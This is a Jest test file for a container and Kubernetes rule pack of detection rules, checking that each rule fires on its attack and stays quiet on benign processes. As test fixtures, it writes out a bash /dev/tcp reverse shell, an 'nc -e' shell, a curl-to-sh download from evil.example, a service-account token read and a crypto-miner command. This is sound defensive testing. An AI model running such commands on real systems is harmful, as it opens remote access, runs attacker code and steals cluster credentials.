// The shipped rule pack loads in libs/detect, each rule fires on the attack it names and not on
// benign neighbours; ValidateRules reports rejects with their position.
import { join } from 'node:path';
import { DiagnosticSeverity, RuleFormat } from '@omega/proto';
import { RuleCatalog, readRuleDirectory, validateRuleSources } from './rule-catalog';
import { processLaunch } from './testing/spec-events';

const RULES_DIR = join(__dirname, '..', 'rules');

describe('the shipped container and Kubernetes rule pack', () => {
  let catalog: RuleCatalog;
  beforeAll(async () => {
    catalog = await RuleCatalog.fromDirectory(RULES_DIR, 1n);
  });

  it('loads every rule file in the directory, each with ATT&CK technique tags', async () => {
    const texts = await readRuleDirectory(RULES_DIR);
    expect(texts.length).toBeGreaterThanOrEqual(6);
    expect(catalog.sigmaRules).toHaveLength(texts.length);
    for (const rule of catalog.sigmaRules) {
      expect(rule.compiled.rule.attackTechniques.length).toBeGreaterThan(0);
      expect(rule.compiled.rule.level).toBeDefined();
    }
  });

  const cases: [string, Record<string, string>, string][] = [
    [
      'reverse shell via bash /dev/tcp',
      {
        Image: '/bin/bash',
        CommandLine: "bash -c 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'",
        ParentImage: '/usr/bin/python3',
      },
      'Reverse Shell',
    ],
    [
      'reverse shell via nc -e',
      { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
      'Reverse Shell',
    ],
    [
      'curl piped to sh',
      {
        Image: '/bin/sh',
        CommandLine: 'sh -c curl -fsSL http://evil.example/x.sh | sh',
        ParentImage: '/bin/sh',
      },
      'Download Piped',
    ],
    [
      'service account token read',
      { Image: '/bin/cat', CommandLine: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
      'Kubernetes Service Account Token',
    ],
    [
      'kubectl exec from a pod',
      { Image: '/usr/local/bin/kubectl', CommandLine: 'kubectl exec -it db-0 -- sh' },
      'Kubectl Exec',
    ],
    [
      'a crypto miner',
      { Image: '/tmp/xmrig', CommandLine: 'xmrig -o stratum+tcp://pool.example:3333' },
      'Cryptocurrency Miner',
    ],
    [
      'a shell spawned by the application',
      { Image: '/bin/sh', CommandLine: 'sh', ParentImage: '/usr/bin/node' },
      'Shell Spawned',
    ],
  ];

  it.each(cases)('flags %s', (_name, fields, titleStart) => {
    const titles: string[] = [];
    catalog.matcher.match(processLaunch(fields), (rule) => titles.push(rule.rule.title));
    expect(titles.some((t) => t.startsWith(titleStart))).toBe(true);
  });

  it('stays quiet on ordinary container processes', () => {
    for (const fields of <Record<string, string>[]>[
      { Image: '/usr/bin/node', CommandLine: 'node server.js', ParentImage: '/sbin/tini' },
      { Image: '/usr/bin/curl', CommandLine: 'curl -s http://cart:8080/healthz' },
      { Image: '/bin/sh', CommandLine: 'sh -c ./entrypoint.sh', ParentImage: '/bin/sh' },
    ]) {
      expect(catalog.matcher.match(processLaunch(fields))).toBe(0);
    }
  });

  it('lists the Sigma rules and the five built-in detectors as Rule messages', () => {
    const rules = catalog.list();
    expect(rules.filter((r) => r.format === RuleFormat.RULE_FORMAT_SIGMA_YAML)).toHaveLength(
      catalog.sigmaRules.length,
    );
    expect(rules.filter((r) => r.id.startsWith('detector:')).map((r) => r.id)).toEqual([
      'detector:port-scan',
      'detector:beacon',
      'detector:dns-tunnel',
      'detector:new-edge',
      'detector:deception-touch',
    ]);
    const reverse = rules.find((r) => r.name.startsWith('Reverse Shell'))!;
    expect(reverse.id).toBe('sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02');
    expect(reverse.attackTechniqueIds).toEqual(['T1059.004', 'T1095']);
    expect(reverse.sourceName).toBe('execution/reverse-shell.yml');
    expect(reverse.sourceSha256).toHaveLength(32);
  });
});

describe('validateRuleSources', () => {
  it('reports a rule with an unmapped field as an error naming the rule and its line', () => {
    const content = [
      'title: Bad',
      'id: 11111111-2222-3333-4444-555555555555',
      'logsource: { category: process_creation, product: linux }',
      'detection:',
      '  selection:',
      '    NoSuchField: x',
      '  condition: selection',
      'level: high',
    ].join('\n');
    const result = validateRuleSources([
      { name: 'bad.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content },
    ]);
    expect(result.valid).toBe(false);
    expect(result.diagnostics).toHaveLength(1);
    expect(result.diagnostics[0]).toMatchObject({
      severity: DiagnosticSeverity.DIAGNOSTIC_SEVERITY_ERROR,
      source: 'bad.yml',
      path: 'rule 11111111-2222-3333-4444-555555555555',
    });
    expect(result.diagnostics[0]!.message).toMatch(/NoSuchField/);
    expect(result.diagnostics[0]!.line).toBeGreaterThan(0);
  });

  it('accepts a valid rule and returns it as it would load', () => {
    const content = [
      'title: Whoami',
      'id: 11111111-2222-3333-4444-666666666666',
      'tags: [attack.discovery, attack.t1033]',
      'logsource: { category: process_creation, product: linux }',
      'detection:',
      '  selection: { Image|endswith: /whoami }',
      '  condition: selection',
      'level: low',
    ].join('\n');
    const result = validateRuleSources([
      { name: 'ok.yml', format: RuleFormat.RULE_FORMAT_SIGMA_YAML, content },
    ]);
    expect(result).toMatchObject({ valid: true, diagnostics: [] });
    expect(result.rules.map((r) => [r.id, r.attackTechniqueIds])).toEqual([
      ['sigma:11111111-2222-3333-4444-666666666666', ['T1033']],
    ]);
  });

  it('a rejected rule fails the whole catalog load, naming it', () => {
    expect(() => RuleCatalog.fromTexts([{ source: 'broken.yml', text: 'title: x\n' }], 0n)).toThrow(
      /broken\.yml/,
    );
  });
});
